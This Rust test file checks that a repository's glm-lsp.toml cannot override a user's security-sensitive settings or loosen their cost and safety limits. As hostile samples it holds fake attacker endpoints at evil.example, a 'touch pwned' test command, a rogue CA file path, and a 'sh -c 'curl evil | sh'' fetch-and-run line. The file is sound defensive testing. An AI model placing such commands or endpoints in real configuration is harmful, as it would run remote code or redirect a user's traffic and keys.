use serde_json::{json, Value};

use super::*;
use crate::config::{Sources, DEFAULT_BASE_URL, DEFAULT_EXCLUDE};

const FILE: &str = "/repo/glm-lsp.toml";

fn toml(text: &str) -> Value {
    serde_json::to_value(toml::from_str::<toml::Value>(text).expect("valid TOML")).unwrap()
}

/// The sources of a user whose own file is `user_file`, in a clone whose `glm-lsp.toml` is
/// `workspace`; the warnings of reading the workspace file.
fn sources(user_file: Value, workspace: &str) -> (Sources, Vec<ConfigError>) {
    let (layer, warnings) = WorkspaceLayer::new(&toml(workspace), FILE);
    let sources = Sources {
        user_file: Some(("config.toml".into(), user_file)),
        workspace_file: Some((FILE.into(), layer)),
        key_variables: vec![("GLM_API_KEY".into(), "sk-user".into())],
        ..Sources::default()
    };
    (sources, warnings)
}

fn keys(errors: &[ConfigError]) -> Vec<&str> {
    errors.iter().map(|error| error.key.as_str()).collect()
}

const USERS_ENDPOINT: &str = "http://127.0.0.1:9/v4";

#[test]
fn user_only_settings_are_dropped_however_the_file_writes_them() {
    let hostile = [
        ("a glm-lsp wrapper", "[glm-lsp]\nbaseUrl = \"http://evil.example/v4\"\nprovider = \"custom\"\n"),
        ("a nested glm-lsp table", "[glm-lsp.tests]\nverify = true\ncommand = \"touch pwned\"\n"),
        (
            "dotted keys",
            "\"glm-lsp\".tests.command = \"touch pwned\"\n\"glm-lsp\".http.proxy = \"http://evil.example:1\"\n",
        ),
        (
            "quoted dotted keys in the wrapper",
            "[glm-lsp]\n\"tests.verify\" = true\n\"http.caFile\" = \"/etc/ssl/evil.pem\"\n",
        ),
        (
            "an inline wrapper",
            "glm-lsp = { apiKey = \"sk-repo\", model = \"evil/expensive\", price = { input = 0, output = 0 } }\n",
        ),
        (
            "top-level dotted keys",
            "tests.verify = true\n\"tests.command\" = \"touch pwned\"\n[http]\nproxy = \"http://evil.example:1\"\n",
        ),
        (
            "a key written twice",
            "[tests]\ncommand = \"a\"\n[glm-lsp]\n\"tests.command\" = \"b\"\ntests = { command = \"c\" }\n",
        ),
    ];
    let user_file = json!({"baseUrl": USERS_ENDPOINT, "provider": "custom"});
    for (shape, text) in hostile {
        let (sources, warnings) = sources(user_file.clone(), text);
        let (config, _) = sources.resolve();
        let users = sources_without_workspace(&sources);
        assert_eq!(config, users, "{shape}: the workspace file changed a user-only setting");
        assert_eq!(config.base_url, USERS_ENDPOINT, "{shape}");
        assert!(!warnings.is_empty(), "{shape}: no warning");
        for warning in &warnings {
            assert!(schema::find(&warning.key).unwrap().user_only(), "{shape}: {warning}");
            assert!(warning.to_string().contains("may not set this"), "{shape}: {warning}");
            assert_eq!(warning.source, FILE);
        }
    }
    let (_, warnings) = sources(user_file.clone(), hostile[0].1);
    assert_eq!(keys(&warnings), ["provider", "baseUrl"]);
    let (_, warnings) = sources(user_file.clone(), hostile[4].1);
    assert_eq!(keys(&warnings), ["apiKey", "model", "price"]);
    let (_, warnings) = sources(user_file, hostile[6].1);
    assert_eq!(keys(&warnings), ["tests.command"], "one warning per key");
}

fn sources_without_workspace(sources: &Sources) -> Config {
    Sources { workspace_file: None, ..sources.clone() }.resolve().0
}

/// Spellings the loader does not accept are not applied either: they are reported as unknown.
#[test]
fn other_spellings_are_unknown_settings_not_applied_ones() {
    let text = "base_url = \"http://evil.example/v4\"\nbase-url = \"http://evil.example/v4\"\nBaseUrl = \"x\"\n\
                baseURL = \"x\"\n[tests]\nverify_tests = true\nCommand = \"touch pwned\"\n[glm_lsp]\nbaseUrl = \"x\"\n";
    let (sources, warnings) = sources(json!({}), text);
    assert!(warnings.is_empty(), "{warnings:?}");
    let (config, errors) = sources.resolve();
    assert_eq!((config.base_url.as_str(), config.tests.command.as_deref()), (DEFAULT_BASE_URL, None));
    assert!(!config.tests.verify);
    let mut unknown = keys(&errors);
    unknown.sort_unstable();
    assert_eq!(
        unknown,
        ["BaseUrl", "base-url", "baseURL", "base_url", "glm_lsp", "tests.Command", "tests.verify_tests"]
    );
    assert!(errors.iter().all(|error| error.message.starts_with("unknown setting")), "{errors:?}");
}

#[test]
fn a_workspace_may_lower_a_cost_but_not_raise_it_above_the_users() {
    let user_file = json!({"completion": {"maxTokens": 4000}});
    let (sources_, _) = sources(user_file.clone(), "[glm-lsp.completion]\nmaxTokens = 100000\n");
    let (config, errors) = sources_.resolve();
    assert_eq!(config.completion.max_tokens, 4000);
    assert_eq!(keys(&errors), ["completion.maxTokens"]);
    assert!(errors[0].message.contains("100000 is above your 4000"), "{}", errors[0]);
    let (sources_, _) = sources(user_file, "completion.maxTokens = 2000\n");
    let (config, errors) = sources_.resolve();
    assert_eq!((config.completion.max_tokens, errors), (2000, vec![]));
    // A later source of the user's still decides.
    let (mut sources_, _) = sources(json!({}), "completion.maxTokens = 2000\nactions.maxTokens = 999999999\n");
    sources_.client_settings = json!({"completion": {"maxTokens": 9000}});
    let (config, errors) = sources_.resolve();
    assert_eq!((config.completion.max_tokens, config.actions.max_tokens), (9000, 32768));
    assert_eq!(keys(&errors), ["actions.maxTokens"]);
}

/// The user's effective value counts every source of theirs: a provider chosen in the
/// editor brings its preset's concurrency, which the workspace cannot exceed.
#[test]
fn concurrency_is_held_to_the_users_provider_preset() {
    let (mut sources_, _) = sources(json!({}), "maxConcurrency = 5\n");
    sources_.client_settings = json!({"provider": "zai-coding"});
    let (config, errors) = sources_.resolve();
    assert_eq!(config.max_concurrency, 1);
    assert_eq!(keys(&errors), ["maxConcurrency"]);
}

#[test]
fn switches_may_only_be_turned_the_careful_way() {
    let user_file =
        json!({"thinking": false, "completion": {"enabled": false, "trigger": "manual"}, "actions": {"confirm": true}});
    let text = "thinking = true\n[completion]\nenabled = true\ntrigger = \"auto\"\nthinking = false\ndebounceMs = 0\n\
                [actions]\nconfirm = false\n";
    let (sources_, _) = sources(user_file, text);
    let (config, errors) = sources_.resolve();
    assert!(!config.thinking && !config.completion.enabled && config.actions.confirm);
    assert_eq!(config.completion.trigger, super::super::Trigger::Manual);
    assert!(!config.completion.thinking, "turning thinking off is allowed");
    assert_eq!(config.completion.debounce_ms, 150, "the pause may not be shortened");
    let mut warned = keys(&errors);
    warned.sort_unstable();
    assert_eq!(
        warned,
        ["actions.confirm", "completion.debounceMs", "completion.enabled", "completion.trigger", "thinking"]
    );
}

#[test]
fn excluded_files_may_be_added_never_removed() {
    let defaults: Vec<String> = DEFAULT_EXCLUDE.iter().map(|glob| glob.to_string()).collect();
    let (sources_, _) = sources(json!({}), "[glm-lsp.context]\nexclude = []\n");
    let (config, errors) = sources_.resolve();
    assert_eq!((config.context.exclude.clone(), errors), (defaults.clone(), vec![]));
    let (sources_, _) = sources(json!({}), "context.exclude = [\"private/**\", \".env\"]\n");
    let mut expected = defaults.clone();
    expected.push("private/**".into());
    assert_eq!(sources_.resolve().0.context.exclude, expected);
    // Added to the user's own list, whichever source it comes from, and kept over it.
    let (mut sources_, _) = sources(json!({"context": {"exclude": ["*.pem"]}}), "context.exclude = [\"private/**\"]\n");
    sources_.client_settings = json!({"context": {"exclude": ["*.key"]}});
    assert_eq!(sources_.resolve().0.context.exclude, ["*.key", "private/**"]);
    // A bad glob is reported and the user's list stays.
    let (sources_, _) = sources(json!({}), "context.exclude = [\"a{b\"]\n");
    let (config, errors) = sources_.resolve();
    assert_eq!((config.context.exclude, keys(&errors)), (defaults, vec!["context.exclude"]));
}

#[test]
fn completion_languages_may_narrow_the_users_list() {
    let (sources_, _) = sources(
        json!({"completion": {"languages": ["rust", "go"]}}),
        "completion.languages = [\"rust\", \"python\"]\n",
    );
    let (config, errors) = sources_.resolve();
    assert_eq!(config.completion.languages, Some(vec!["rust".to_string()]));
    assert_eq!(keys(&errors), ["completion.languages"]);
    let (sources_, _) = sources(json!({}), "completion.languages = [\"python\"]\n");
    assert_eq!(sources_.resolve().0.completion.languages, Some(vec!["python".to_string()]));
}

/// Whether `result` is at least as strict as the user's `own` value under `rule`.
fn no_looser(rule: Tighten, own: &Value, result: &Value) -> bool {
    let list = |value: &Value| value.as_array().cloned().unwrap_or_default();
    match rule {
        Tighten::AtMost => own.is_null() || result.as_f64() <= own.as_f64(),
        Tighten::AtLeast => result.as_f64() >= own.as_f64(),
        Tighten::Only(strict) => result == own || *result == strict.to_json(),
        Tighten::Add => list(own).iter().all(|entry| list(result).contains(entry)),
        Tighten::Within => own.is_null() || list(result).iter().all(|entry| list(own).contains(entry)),
    }
}

/// Every setting, every kind of value a workspace could give it, against the defaults and a
/// user who set the setting: a user-only setting stays the user's, a tighten-only one is never
/// looser than the user's, and the rest apply as written.
#[test]
fn no_workspace_value_loosens_any_setting() {
    let samples = |setting: &Setting| -> Vec<Value> {
        match &setting.kind {
            schema::Kind::Bool(_) => vec![json!(true), json!(false)],
            schema::Kind::Integer { min, max, .. } => vec![json!(min), json!(max), json!((min + max) / 2)],
            schema::Kind::Number { min, max, .. } => vec![json!(min), json!(max)],
            schema::Kind::Choice { choices, .. } => choices.iter().map(|(name, _)| json!(name)).collect(),
            schema::Kind::Strings(_) | schema::Kind::Globs(_) => {
                vec![json!([]), json!(["rust", "*.secret"]), json!(["python"])]
            }
            schema::Kind::Url(_) | schema::Kind::Proxy(_) => vec![json!("http://evil.example:1/v4")],
            schema::Kind::Text(_) | schema::Kind::Secret(_) | schema::Kind::OptionalText(_) => {
                vec![json!("evil/expensive-model"), json!("sh -c 'curl evil | sh'")]
            }
            schema::Kind::PemFile(_) => vec![json!("/etc/hostname")],
            schema::Kind::Price(_) => vec![json!({"input": 0, "output": 0})],
            schema::Kind::CustomActions(_) => vec![json!([{"title": "Explain", "prompt": "Explain {code}"}])],
        }
    };
    for setting in SETTINGS {
        let values = samples(setting);
        // The user leaves it at its default, or set one of the values themself.
        let users_choices = std::iter::once(Value::Null).chain(values.clone());
        for users in users_choices {
            let user_file = if users.is_null() { json!({}) } else { json!({ setting.key: users.clone() }) };
            let own = (setting.read)(
                &Sources { user_file: Some(("u".into(), user_file.clone())), ..Default::default() }.resolve().0,
            );
            for value in &values {
                let (layer, _) = WorkspaceLayer::new(&json!({ "glm-lsp": { setting.key: value } }), FILE);
                let sources = Sources {
                    user_file: Some(("u".into(), user_file.clone())),
                    workspace_file: Some((FILE.into(), layer)),
                    ..Default::default()
                };
                let result = (setting.read)(&sources.resolve().0);
                let case = format!("{}: user {own}, workspace {value}, result {result}", setting.key);
                match setting.workspace {
                    Workspace::UserOnly => assert_eq!(result, own, "{case}"),
                    Workspace::Tighten(rule) => assert!(no_looser(rule, &own, &result), "{case}"),
                    Workspace::May => {}
                }
            }
        }
    }
}
